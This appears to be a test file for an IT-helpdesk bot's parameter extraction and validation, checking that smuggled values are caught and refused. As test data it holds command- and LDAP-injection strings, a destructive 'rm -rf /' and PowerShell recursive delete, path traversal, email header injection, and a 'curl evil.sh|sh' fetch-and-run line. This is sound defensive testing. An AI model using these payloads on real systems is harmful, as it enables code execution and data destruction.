import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ParameterSpec } from '../../knowledge/instructions/instruction-schema.ts'
import { extractParameter } from './parameter-extraction.ts'
import { validateParameter } from './parameter-validation.ts'
import { withNameAsUser } from './username-extraction.ts'

const spec = (kind: ParameterSpec['kind'], extra: Partial<ParameterSpec> = {}): ParameterSpec => ({
  name: kind === 'hostname' ? 'device' : kind,
  kind,
  description: 'test',
  required: true,
  question: '?',
  defaultFromRequester: false,
  ...extra,
})

describe('finding parameters in a message', () => {
  it.each([
    ['username', 'please reset the password for user jdoe', 'jdoe'],
    ['username', 'my username is maria.garcia and I am locked out', 'maria.garcia'],
    ['username', 'reset password for m.garcia, she is new', 'm.garcia'],
    ['username', 'my account is locked again', undefined],
    ['username', 'a user needs their password reset', undefined],
    ['username', 'another user forgot the password', undefined],
    ['username', 'the user jdoe needs a reset', 'jdoe'],
    ['username', 'jdoe is locked out of the domain', 'jdoe'],
    ['username', 'kwong forgot her windows password', 'kwong'],
    ['username', 'ok, r.chen keeps getting locked', 'r.chen'],
    ['username', 'windows is locked after the update', undefined],
    ['username', 'teams forgot my password again', undefined],
    ['username', 'I forgot my password', undefined],
    ['username', 'teams keeps asking for login forever', undefined],
    ['username', 'I have been locked out for two days', undefined],
    ['username', 'teams login broken since monday', undefined],
    ['username', 'account: jdoe', 'jdoe'],
    ['username', 'my AD account jdoe is locked out', 'jdoe'],
    ['username', 'her account bob got disabled', 'bob'],
    ['username', 'my active directory account jdoe.', 'jdoe'],
    ['username', 'my account seems locked', undefined],
    ['username', 'my AD account locked out again', undefined],
    ['username', 'my account still does not work', undefined],
    ['username', 'when emailing j.smith@partner-firm.com it bounces', undefined],
    ['username', 'https://jira.example.com is down', undefined],
    ['group', 'add me to the FIN project', 'FIN'],
    ['group', 'I asked the finance group yesterday', undefined],
    ['group', 'add me to group jira-fin-users', 'jira-fin-users'],
    ['hostname', 'my laptop LT-0423 keeps overheating', 'LT-0423'],
    ['hostname', 'the computer name is ws-fin-12', 'ws-fin-12'],
    ['printer', 'PRN-3F-EAST shows offline', 'PRN-3F-EAST'],
    ['unc_path', 'I get access denied on \\\\fs01\\finance.', '\\\\fs01\\finance'],
    ['email', 'mail to jane.doe@example.com bounced', 'jane.doe@example.com'],
    ['error_code', 'it says 0x8004DE40 in OneDrive', '0x8004DE40'],
    ['error_code', 'NDR 550 5.1.1 RESOLVER.ADR.RecipNotFound', '5.1.1'],
    ['error_code', 'vpn error 809 again', '809'],
    ['error_code', 'blue screen IRQL_NOT_LESS_OR_EQUAL', 'IRQL_NOT_LESS_OR_EQUAL'],
    ['application', 'Adobe Acrobat keeps crashing when I print', 'Adobe Acrobat'],
    ['application', 'it crashes with an access violation', undefined],
    ['application', 'Access keeps crashing on the sales database', 'Access'],
    ['package_name', 'can I get 7-Zip installed please', '7zip.7zip'],
  ] as const)('%s in %j -> %j', (kind, text, expected) => {
    expect(extractParameter(spec(kind), text, 'message')).toBe(expected)
  })

  it('recognises the account system from the words people use', () => {
    const system = spec('system', { systems: ['active_directory', 'aws_iam', 'local'] })
    expect(extractParameter(system, 'the AWS one', 'answer')).toBe('aws_iam')
    expect(extractParameter(system, 'my windows login', 'message')).toBe('active_directory')
    expect(extractParameter(system, 'the local account on the lab PC', 'message')).toBe('local')
    expect(extractParameter(system, 'my password expired, the windows one', 'message')).toBe(
      'active_directory',
    )
    expect(
      extractParameter(spec('system', { systems: ['active_directory'] }), 'the AWS one', 'answer'),
    ).toBeUndefined()
  })

  it('takes a bare answer to our question, with the usual lead-in words', () => {
    expect(extractParameter(spec('username'), "it's jdoe", 'answer')).toBe('jdoe')
    expect(extractParameter(spec('username'), 'sure, my username is a.smith.', 'answer')).toBe(
      'a.smith',
    )
    expect(extractParameter(spec('printer'), 'PRN-2-WEST', 'answer')).toBe('PRN-2-WEST')
    expect(extractParameter(spec('hostname'), 'the laptop is LT-0999', 'answer')).toBe('LT-0999')
    expect(extractParameter(spec('package_name'), 'notepad++', 'answer')).toBe(
      'Notepad++.Notepad++',
    )
  })

  it('matches enum values by their words', () => {
    const mode = spec('enum', {
      values: { cached: ['cached mode', 'offline'], online: ['online mode'] },
    })
    expect(extractParameter(mode, 'switch me to online mode', 'message')).toBe('online')
    expect(extractParameter(mode, 'nothing relevant', 'message')).toBeUndefined()
  })
})

describe('values are found whole, never cut at the first odd character', () => {
  it.each([
    ['username', 'unlock user jdoe;rm -rf /', 'jdoe;rm'],
    ['username', 'unlock user jdoe$(id) now', 'jdoe$(id)'],
    ['username', 'reset password for j.doe|id', 'j.doe|id'],
    ['username', 'reset password for jdoe;rm', 'jdoe;rm'],
    ['username', 'my username is maria.garcia;x', 'maria.garcia;x'],
    ['username', 'username isabel', 'isabel'],
    ['username', 'unlock user "John Doe" please', 'John Doe'],
    ['username', "unlock user jdoe's account", 'jdoe'],
    ['username', 'unlock user (jdoe).', 'jdoe'],
    ['username', 'unlock user `id`', '`id`'],
    ['username', "the user can't log in", undefined],
    ['username', 'maria.garcia;rm is locked', 'maria.garcia;rm'],
    ['username', 'unlock user ad\u200bministrator', 'ad\u200bministrator'],
    ['username', 'unlock user ad\ufeffministrator', 'ad\ufeffministrator'],
    ['hostname', 'my laptop LT-0423;reboot is slow', 'LT-0423;reboot'],
    ['hostname', 'x;LT-0423 is slow', 'x;LT-0423'],
    ['hostname', 'my laptop (LT-0423) is slow', 'LT-0423'],
    ['hostname', "LT-0423's fan is loud", 'LT-0423'],
    ['hostname', 'the computer name is ws-fin-12$(id)', 'ws-fin-12$(id)'],
    ['printer', 'PRN-3F-EAST&&calc shows offline', 'PRN-3F-EAST&&calc'],
    ['email', 'mail to jane.doe@example.com;x bounced', 'jane.doe@example.com;x'],
    ['unc_path', 'access denied on \\\\fs01\\finance;calc', '\\\\fs01\\finance;calc'],
    ['error_code', 'vpn error 809;id again', '809;id'],
    ['group', 'add user alice to group Enterprise Admins', 'Enterprise Admins'],
    ['group', 'add user alice to group Enterprise Admins, thanks', 'Enterprise Admins'],
    ['group', 'add me to group FIN today', 'FIN'],
    ['group', "add me to the 'Finance Team' group", 'Finance Team'],
    ['group', 'add me to the Finance Team group', 'Finance Team'],
    ['group', 'add me to the group called "Access for Contractors"', 'Access for Contractors'],
    ['group', 'add me to group Enterprise Admins;reboot', 'Enterprise Admins;reboot'],
    ['group', "add me to group 'Enterprise Admins", undefined],
    ['group', 'the laptop of the HR group keeps crashing', 'HR'],
  ] as const)('%s in %j -> %j', (kind, text, expected) => {
    expect(extractParameter(spec(kind), text, 'message')).toBe(expected)
  })

  it('takes whatever is glued to a username, so validation sees it (property)', () => {
    const glued = fc
      .string({
        unit: fc.constantFrom(...';|&$()`<>*\\/"#%^~+=,@!?.:-_ab1\u00e9\u0430'),
        minLength: 1,
        maxLength: 6,
      })
      // Sentence punctuation alone at the end ("jdoe.") is not part of the value.
      .filter((suffix) => !/^[.,;:!?)\]}>"'’”»]+$/.test(suffix))
    fc.assert(
      fc.property(
        fc.constantFrom('jdoe', 'maria.garcia', 'svc_backup-01'),
        glued,
        (name, suffix) => {
          const found = extractParameter(
            spec('username'),
            `please unlock user ${name}${suffix} today`,
            'message',
          )
          // Never the bare name when something was glued to it.
          expect(found).not.toBe(name)
          expect(found === undefined || found.startsWith(name.slice(0, 1))).toBe(true)
        },
      ),
      { numRuns: 2000 },
    )
  })
})

describe('an invisible character inside a name in a message', () => {
  it('stays in the value, so validation refuses it by name; the name is never cut there (property)', () => {
    const invisible = fc.constantFrom(
      ...'\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\ufeff',
    )
    fc.assert(
      fc.property(
        fc.constantFrom('administrator', 'maria.garcia', 'LT-0423'),
        fc.nat(),
        invisible,
        fc.constantFrom('unlock user ', 'my username is ', 'reset password for '),
        (name, position, character, lead) => {
          const at = 1 + (position % (name.length - 1))
          const value = `${name.slice(0, at)}${character}${name.slice(at)}`
          const found = extractParameter(spec('username'), `${lead}${value} please`, 'message')
          if (found === undefined) return
          expect(found).toBe(value)
          const result = validateParameter(spec('username'), found)
          expect(result.ok ? '' : result.reason).toMatch(/contains U\+[0-9A-F]{4}/)
        },
      ),
      { numRuns: 1000 },
    )
  })
})

describe('validation keeps hostile values out', () => {
  it.each([
    ['username', 'jdoe; rm -rf /'],
    ['username', '$(id)'],
    ['username', '*)(sAMAccountName=*'],
    ['username', 'admin\u0000'],
    ['username', 'a'.repeat(200)],
    ['hostname', 'LT-1 && shutdown'],
    ['hostname', '../../etc/passwd'],
    ['unc_path', '\\\\fs01\\..\\..\\windows'],
    ['unc_path', '\\\\fs01\\share"; calc'],
    ['printer', "PRN-1'; Remove-Item C:\\ -Recurse"],
    ['package_name', 'vlc; curl evil.sh|sh'],
    ['email', 'x@y.com\r\nBcc: all@corp.com'],
    ['group', 'Domain Admins)(member=*'],
    ['application', '`calc`'],
    ['url', 'javascript:alert(1)'],
    ['error_code', '809 && whoami'],
  ] as const)('%s rejects %j with a reason', (kind, value) => {
    const result = validateParameter(spec(kind), value)
    expect(result.ok).toBe(false)
    if (!result.ok) expect(result.reason.length).toBeGreaterThan(5)
  })

  it('canonicalises accepted values', () => {
    expect(validateParameter(spec('hostname'), ' lt-0423 ')).toEqual({ ok: true, value: 'LT-0423' })
    expect(validateParameter(spec('email'), 'Jane.Doe@Example.com')).toEqual({
      ok: true,
      value: 'jane.doe@example.com',
    })
    expect(validateParameter(spec('system', { systems: ['aws_iam'] }), 'AWS_IAM')).toEqual({
      ok: true,
      value: 'aws_iam',
    })
  })
})

describe('withNameAsUser (the text the router reads when a name threw it off)', () => {
  it.each([
    ['reset maria.garcia', 'reset the user'],
    ['bob needs adding to jira-fin-users', 'the user needs adding to jira-fin-users'],
    ['unlock kwong please', 'unlock the user please'],
  ])('"%s" is routed as "%s"', (message, routed) => {
    expect(withNameAsUser(message)).toBe(routed)
  })

  it('leaves nothing to route again when no name is found', () => {
    expect(withNameAsUser('my laptop is slow')).toBeUndefined()
  })
})

describe('a program named inside a longer word is taken with it, whole, to be refused', () => {
  it.each([
    ['can I get 7zip$(id) installed on my laptop', '7zip$(id)'],
    ['can I get 7zip;id installed', '7zip;id'],
    ['please install notepad++|id on my laptop', 'notepad++|id'],
    ['please install vlc$(id)', 'vlc$(id)'],
    ['install 7-zip&&calc on my laptop please', '7-zip&&calc'],
  ])('%s -> %s', (message, whole) => {
    const found = extractParameter(spec('package_name'), message, 'message')
    expect(found).toBe(whole)
    expect(validateParameter(spec('package_name'), found ?? '').ok).toBe(false)
  })

  it.each([
    ['can I get 7zip installed, please?', '7zip.7zip'],
    ['install vlc.', 'VideoLAN.VLC'],
    ['I need Acrobat Reader on my laptop', 'Adobe.Acrobat.Reader.64-bit'],
    ['please install notepad++', 'Notepad++.Notepad++'],
    ['install (vlc) please', 'VideoLAN.VLC'],
  ])('%s -> %s, as before', (message, id) => {
    expect(extractParameter(spec('package_name'), message, 'message')).toBe(id)
  })
})

describe('an application named inside a longer word is taken with it, whole, to be refused', () => {
  it.each([
    ['Outlook;calc keeps crashing', 'Outlook;calc'],
    ['my app Notepad++|calc crashes on launch', 'Notepad++|calc'],
    ['Excel$(id) keeps crashing on my laptop', 'Excel$(id)'],
  ])('%s -> %s', (message, whole) => {
    const found = extractParameter(spec('application'), message, 'message')
    expect(found).toBe(whole)
    expect(validateParameter(spec('application'), found ?? '').ok).toBe(false)
  })

  it.each([
    ['Outlook keeps crashing', 'Outlook'],
    ['my app (Notepad++) crashes on launch', 'Notepad++'],
    ["Excel's crashing again", 'Excel'],
  ])('%s -> %s, as before', (message, name) => {
    expect(extractParameter(spec('application'), message, 'message')).toBe(name)
  })
})
